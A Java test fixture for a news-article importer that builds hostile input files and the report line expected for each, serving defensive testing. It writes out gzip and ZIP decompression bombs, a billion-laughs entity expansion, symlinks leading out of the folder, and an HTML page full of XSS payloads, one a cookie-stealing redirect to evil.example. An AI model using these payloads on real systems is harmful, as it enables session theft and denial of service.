package org.newsline.ingest;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.jspecify.annotations.Nullable;

/**
 * A folder of hostile article files, generated at test time (nothing big is committed),
 * with what an import must report for each: empty, binary, huge, deeply nested, badly
 * encoded, compressed bombs, entity bombs, scripts, pathological text for CoreNLP, odd
 * names and links out of the folder, beside two good articles that must still land.
 *
 * <p>
 * Every expectation names the file's report line: a {@code FAILED} one with the reason
 * the report gives, a {@code CREATED} one with a note saying how the file was sanitised.
 */
final class HostileCorpus {

	/** Two copies of seed articles under new names, with their publication dates. */
	static final List<String> GOOD = List.of("good-one.txt", "good-two.txt");

	/** A sentence that only the file outside the corpus folder holds. */
	static final String SECRET = "The vault code is swordfish and must never be imported.";

	static final long FIFTY_MEGABYTES = 50L * 1024 * 1024;

	private static final String STORY = "The harbour reopened on Friday after repairs, the port authority said.";

	private static final String SMALL_STORY = "The ferry resumed service on Tuesday after the storm, the operator said.\n";

	private final Path folder;

	private final Map<String, Expectation> expectations = new LinkedHashMap<>();

	private HostileCorpus(Path folder) {
		this.folder = folder;
	}

	/**
	 * Writes the corpus into {@code folder}; {@code outside} receives the file that a
	 * link in the corpus points to.
	 */
	static HostileCorpus write(Path folder, Path outside) throws IOException {
		HostileCorpus corpus = new HostileCorpus(folder);
		corpus.writeAll(outside);
		return corpus;
	}

	Path folder() {
		return this.folder;
	}

	Map<String, Expectation> expectations() {
		return this.expectations;
	}

	/** Report lines expected to be {@code FAILED}. */
	List<String> failing() {
		return this.expectations.values()
			.stream()
			.filter((e) -> e.outcome() == FileOutcome.FAILED)
			.map(Expectation::key)
			.toList();
	}

	private void writeAll(Path outside) throws IOException {
		empty();
		binary();
		huge();
		nested();
		badlyEncoded();
		bombs();
		entities();
		scripts();
		pathologicalText();
		names();
		links(outside);
		good();
		Files.writeString(this.folder.resolve("slides.pdf"), "%PDF-1.7 not an article type");
		Files.writeString(this.folder.resolve(ArticleImporter.MANIFEST), """
				file,outlet,url,published,title
				good-one.txt,,,2025-10-07,
				good-two.txt,,,2025-10-20,
				markup-as-text.txt,Town Crier,,2024-06-05,
				""");
	}

	private void empty() throws IOException {
		write("empty.txt", new byte[0]);
		fails("empty.txt", "empty.txt is empty");
		write("whitespace.html", " \n\t\u00A0\r\n\u200B\uFEFF  \n".getBytes(StandardCharsets.UTF_8));
		fails("whitespace.html", "whitespace.html is empty");
	}

	private void binary() throws IOException {
		Random random = new Random(42);
		byte[] noise = new byte[64 * 1024];
		random.nextBytes(noise);
		noise[0] = 'x';
		write("noise.html", noise);
		fails("noise.html", "noise.html is not a text file (it looks like binary data)");
		write("photo.html", withPrefix(noise, 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'));
		fails("photo.html", "photo.html is a PNG image, not an article");
		write("paper.txt", withPrefix(noise, '%', 'P', 'D', 'F', '-', '1', '.', '7'));
		fails("paper.txt", "paper.txt is a PDF document, not an article");
		write("program.txt", withPrefix(noise, 0x7F, 'E', 'L', 'F', 2, 1, 1, 0));
		fails("program.txt", "program.txt is an ELF executable, not an article");
		// A page of harmless markup with an archive appended, as polyglot files are made.
		ByteArrayOutputStream polyglot = new ByteArrayOutputStream();
		polyglot.write(("<html><body>" + ("<p>" + STORY + "</p>\n").repeat(1200)).getBytes(StandardCharsets.UTF_8));
		polyglot.write(zip("story.html", new byte[4096]));
		write("appended-archive.html", polyglot.toByteArray());
		fails("appended-archive.html", "appended-archive.html is not a text file (it looks like binary data)");
	}

	/**
	 * Fifty megabytes of text and of HTML: refused on their size before they are read.
	 */
	private void huge() throws IOException {
		writeRepeated("huge.txt", "", "All work and no play makes a very long article.\n", "", FIFTY_MEGABYTES);
		String tooLarge = " is too large (52,428,800 bytes (50 MB); the limit is 5,242,880 bytes (5 MB))";
		fails("huge.txt", "huge.txt" + tooLarge);
		writeRepeated("huge.html", "<html><body>", "<p>" + STORY + "</p>\n", "", FIFTY_MEGABYTES);
		fails("huge.html", "huge.html" + tooLarge);
	}

	/**
	 * A hundred thousand nested elements, closed and never closed, and JSON-LD nested a
	 * hundred thousand arrays deep.
	 */
	private void nested() throws IOException {
		writeText("nested.html", "<html><body>" + "<div>".repeat(100_000) + "<p>" + STORY + "</p>"
				+ "</div>".repeat(100_000) + "</body></html>");
		creates("nested.html", null);
		writeText("unclosed.html", "<html><body>" + "<b><div><span><i>".repeat(25_000) + "<p>" + STORY);
		creates("unclosed.html", null);
		writeText("deep-json.html",
				"<html><head><script type=\"application/ld+json\">" + "[".repeat(100_000) + "]".repeat(100_000)
						+ "</script></head><body><article>" + "<section>".repeat(50_000) + "<p>" + STORY
						+ "</p></article></body></html>");
		creates("deep-json.html", null);
	}

	/**
	 * Overlong forms, lone continuation bytes and encoded surrogates: sanitised, not
	 * refused, since the text is otherwise fine.
	 */
	private void badlyEncoded() throws IOException {
		byte[] broken = { (byte) 0xC0, (byte) 0xAF, (byte) 0x80, (byte) 0xBF, (byte) 0xED, (byte) 0xA0, (byte) 0x80,
				(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 };
		ByteArrayOutputStream mostlyUtf8 = new ByteArrayOutputStream();
		for (int i = 0; i < 10; i++) {
			mostlyUtf8.write(("Nicolás Maduro spoke in Caracas on Monday, officials in Bogotá said. ")
				.getBytes(StandardCharsets.UTF_8));
		}
		mostlyUtf8.write(broken, 0, 2);
		mostlyUtf8.write("\n".getBytes(StandardCharsets.UTF_8));
		write("mostly-utf8.txt", mostlyUtf8.toByteArray());
		creates("mostly-utf8.txt", "read as UTF-8 (2 invalid UTF-8 sequences replaced)");

		ByteArrayOutputStream ascii = new ByteArrayOutputStream();
		ascii.write(SMALL_STORY.getBytes(StandardCharsets.UTF_8));
		ascii.write(broken);
		ascii.write(SMALL_STORY.getBytes(StandardCharsets.UTF_8));
		write("overlong-utf8.txt", ascii.toByteArray());
		creates("overlong-utf8.txt", "read as windows-1252 (not valid UTF-8)");
	}

	/**
	 * Compressed files named as HTML that would expand to a gibibyte: one gzip stream of
	 * 1,024 members of a mebibyte of zeros each (about a megabyte on disk), that stream
	 * gzipped again (a few kilobytes), and a ZIP archive holding it.
	 */
	private void bombs() throws IOException {
		byte[] member = gzip(new byte[1024 * 1024]);
		ByteArrayOutputStream gibibyte = new ByteArrayOutputStream(member.length * 1024);
		for (int i = 0; i < 1024; i++) {
			gibibyte.write(member);
		}
		byte[] bomb = gibibyte.toByteArray();
		write("bomb.html", bomb);
		fails("bomb.html", "bomb.html is a compressed file (gzip), not an article; compressed files are not unpacked");
		write("bomb-nested.html", gzip(bomb));
		fails("bomb-nested.html",
				"bomb-nested.html is a compressed file (gzip), not an article; compressed files are not unpacked");
		write("bomb.htm", zip("index.html", bomb));
		fails("bomb.htm", "bomb.htm is a compressed file (ZIP), not an article; compressed files are not unpacked");
	}

	/**
	 * Entities that would expand exponentially if defined entities were honoured, and
	 * megabytes of ordinary named and numeric references.
	 */
	private void entities() throws IOException {
		StringBuilder laughs = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE html [\n<!ENTITY lol \"lol\">\n");
		for (int i = 1; i <= 9; i++) {
			laughs.append("<!ENTITY lol").append(i).append(" \"");
			laughs.append(("&lol" + ((i == 1) ? "" : String.valueOf(i - 1)) + ";").repeat(10));
			laughs.append("\">\n");
		}
		laughs.append("]>\n<html><body><p>&lol9;</p><p>").append(STORY).append("</p></body></html>");
		writeText("laughs.html", laughs.toString());
		creates("laughs.html", null);

		writeRepeated("entities.html", "<html><body><p>" + STORY + "</p>",
				"<p>Caf&eacute; &amp; bar &#8212; &#x263A; &NotNestedGreaterGreater; &#128512; &#xD800; &#0;</p>\n",
				"</body></html>", 4L * 1024 * 1024);
		creates("entities.html", "repeated paragraphs");
	}

	/**
	 * Scripts, event handlers, script addresses, frames, SVG and MathML tricks, styles
	 * and comment games in an HTML file: the stored text keeps the story and none of
	 * them.
	 */
	private void scripts() throws IOException {
		writeText("scripts.html",
				"""
						<!DOCTYPE html><html><head><title>Harbour reopens</title>
						<script>document.location='https://evil.example/?c='+document.cookie</script>
						<style>body { background: url("javascript:alert(1)") }</style>
						<meta http-equiv="refresh" content="0;url=javascript:alert(2)">
						</head><body onload="alert(3)">
						<article><h1>Harbour reopens</h1>
						<p onclick="steal()">%s</p>
						<p><a href="javascript:alert(4)">Ships</a> queued outside the breakwater <img src=x onerror="alert(5)"> all morning.</p>
						<iframe src="javascript:alert(6)"></iframe><iframe srcdoc="<script>alert(7)</script>"></iframe>
						<svg onload="alert(8)"><circle r="1"/><script>alert(9)</script></svg>
						<p>Fishermen said <!-- <script>alert(10)</script> --> the wait had cost them a day's catch.</p>
						<!--[if IE]><script>alert(11)</script><![endif]-->
						<object data="javascript:alert(12)"></object><embed src="javascript:alert(13)">
						<form action="javascript:alert(14)"><input onfocus="alert(15)" autofocus></form>
						<math><mtext><table><mglyph><style><img src=x onerror=alert(16)></style></mglyph></table></mtext></math>
						<noscript><p title="</noscript><img src=x onerror=alert(17)>"></p></noscript>
						<p style="display:none">Hidden <script>alert(18)</script> text.</p>
						<p>The port authority expects traffic to return to normal by Monday.</p>
						</article></body></html>
						"""
					.formatted(STORY));
		creates("scripts.html", null);
		writeText("markup-as-text.txt",
				"""
						Council website defaced

						On Monday the council said its website had been defaced with the text <script>alert("defaced")</script> and an image tag <img src=x onerror=alert(1)>, the mayor said.

						Officials said the site was restored on Tuesday.
						""");
		creates("markup-as-text.txt", null);
	}

	/**
	 * Text that is fine to store and pathological to annotate: one line of five million
	 * characters without a space, a passage without a sentence break, a hundred thousand
	 * tiny paragraphs, and a title of a million characters.
	 */
	private void pathologicalText() throws IOException {
		writeRepeated("one-line.txt", "", "abcdefghij", "\n", 5_000_001);
		creates("one-line.txt", "drafted from the first 50,000 of 5,000,000 characters only");
		writeText("run-on.txt",
				"the council kept talking about the budget and the bridge and the harbour ".repeat(70) + "\n");
		creates("run-on.txt", "without a sentence break");
		StringBuilder tiny = new StringBuilder();
		for (int i = 0; i < 100_000; i++) {
			tiny.append('P').append(i).append(".\n\n");
		}
		writeText("tiny-paragraphs.txt", tiny.toString());
		creates("tiny-paragraphs.txt", "kept the first 2000 of 100000 paragraphs");
		writeText("huge-title.html",
				"<html><head><title>" + "Headline ".repeat(120_000) + "</title></head><body><p>" + STORY + "</p>");
		creates("huge-title.html", "title cut to 300 of 1,079,999 characters");
	}

	/**
	 * Names a folder can hold that must not reach the report as they are: control
	 * characters, a right-to-left override, a name near the file system's limit.
	 */
	private void names() throws IOException {
		write("line\nbreak\u0007.txt", SMALL_STORY.getBytes(StandardCharsets.UTF_8));
		creates("linebreak.txt", null);
		write("report\u202Elmth.txt", SMALL_STORY.getBytes(StandardCharsets.UTF_8));
		creates("reportlmth.txt", null);
		String longName = "a".repeat(240) + ".txt";
		write(longName, SMALL_STORY.getBytes(StandardCharsets.UTF_8));
		String key = org.newsline.ingest.document.FileNames.safe(longName);
		this.expectations.put(key, new Expectation(key, FileOutcome.CREATED, null));
	}

	/**
	 * A link to a file outside the folder, a link to nothing, and a named pipe, which
	 * would block a reader forever.
	 */
	private void links(Path outside) throws IOException {
		Path secret = Files.writeString(outside.resolve("secret.txt"), SECRET + "\n");
		Files.createSymbolicLink(this.folder.resolve("leak.txt"), secret);
		fails("leak.txt", "leak.txt is a link to a file outside the folder; links out of the folder are not followed");
		Files.createSymbolicLink(this.folder.resolve("gone.txt"), outside.resolve("missing.txt"));
		fails("gone.txt", "gone.txt is a link to a file that does not exist");
		if (mkfifo(this.folder.resolve("pipe.txt"))) {
			fails("pipe.txt", "pipe.txt is not a regular file (a pipe, socket or device); it was not read");
		}
	}

	private void good() throws IOException {
		Files.copy(Path.of("seeds", "000_ec167ae72b1d4f43.txt"), this.folder.resolve(GOOD.get(0)));
		Files.copy(Path.of("seeds", "003_2fbdb5009ac7c044.txt"), this.folder.resolve(GOOD.get(1)));
		for (String good : GOOD) {
			creates(good, null);
		}
	}

	private void fails(String key, String reason) {
		this.expectations.put(key, new Expectation(key, FileOutcome.FAILED, reason));
	}

	private void creates(String key, @Nullable String note) {
		this.expectations.put(key, new Expectation(key, FileOutcome.CREATED, note));
	}

	private void write(String name, byte[] content) throws IOException {
		Files.write(this.folder.resolve(name), content);
	}

	private void writeText(String name, String content) throws IOException {
		write(name, content.getBytes(StandardCharsets.UTF_8));
	}

	/**
	 * Writes a head, then the unit again and again, then a tail, {@code size} bytes in
	 * all.
	 */
	private void writeRepeated(String name, String head, String unit, String tail, long size) throws IOException {
		byte[] headBytes = head.getBytes(StandardCharsets.UTF_8);
		byte[] tailBytes = tail.getBytes(StandardCharsets.UTF_8);
		byte[] unitBytes = unit.getBytes(StandardCharsets.UTF_8);
		byte[] chunk = new byte[unitBytes.length * (64 * 1024 / unitBytes.length)];
		for (int i = 0; i < chunk.length; i++) {
			chunk[i] = unitBytes[i % unitBytes.length];
		}
		long body = size - headBytes.length - tailBytes.length;
		try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(this.folder.resolve(name)))) {
			out.write(headBytes);
			for (long written = 0; written < body; written += chunk.length) {
				out.write(chunk, 0, (int) Math.min(chunk.length, body - written));
			}
			out.write(tailBytes);
		}
	}

	private static byte[] withPrefix(byte[] rest, int... prefix) {
		byte[] bytes = Arrays.copyOf(rest, rest.length);
		for (int i = 0; i < prefix.length; i++) {
			bytes[i] = (byte) prefix[i];
		}
		return bytes;
	}

	private static byte[] gzip(byte[] content) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
			out.write(content);
		}
		return bytes.toByteArray();
	}

	private static byte[] zip(String entry, byte[] content) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream out = new ZipOutputStream(bytes)) {
			out.putNextEntry(new ZipEntry(entry));
			out.write(content);
			out.closeEntry();
		}
		return bytes.toByteArray();
	}

	private static boolean mkfifo(Path path) {
		try {
			Process process = new ProcessBuilder("mkfifo", path.toString()).start();
			return process.waitFor(10, TimeUnit.SECONDS) && process.exitValue() == 0;
		}
		catch (IOException ex) {
			return false;
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			return false;
		}
	}

	/**
	 * What the report must say about one file: its key, its outcome, and the reason it
	 * failed or a note its line must hold ({@code null} when any line will do).
	 */
	record Expectation(String key, FileOutcome outcome, @Nullable String text) {
	}

}
